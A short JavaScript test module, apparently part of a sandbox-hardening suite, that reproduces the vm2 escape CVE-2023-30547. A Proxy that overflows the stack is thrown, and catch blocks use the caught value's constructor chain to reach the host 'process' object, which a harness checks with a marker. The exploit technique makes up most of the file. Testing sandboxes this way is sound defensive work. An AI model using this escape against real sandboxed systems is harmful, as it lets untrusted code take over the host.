// Escape attempt: CVE-2023-30547 (GHSA-ch3r-j5x3-6q2m): a Proxy whose getPrototypeOf overflows the stack while vm2 handles the thrown value, hoping to catch a host RangeError.
// Runs with ../escape-harness.js prepended (pwn, attempt).

module.exports = {
  name: 'escape-proxy-prototype-catch',
  description: 'sandbox escape attempt: proxy-prototype-catch',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    const handler = { getPrototypeOf() { (function stack() { new Error().stack; stack(); })(); } };
    const proxied = new Proxy({}, handler);
    attempt(notes, "catch", () => { try { throw proxied; } catch ({ constructor: c }) { pwn(c.constructor("return process")(), marker, notes, "catch destructure"); } });
    attempt(notes, "catch2", () => { try { throw proxied; } catch (e) { pwn(e.constructor.constructor("return process")(), marker, notes, "catch plain"); } });
    return { summary: notes.join(' | '), data: notes };
  },
};
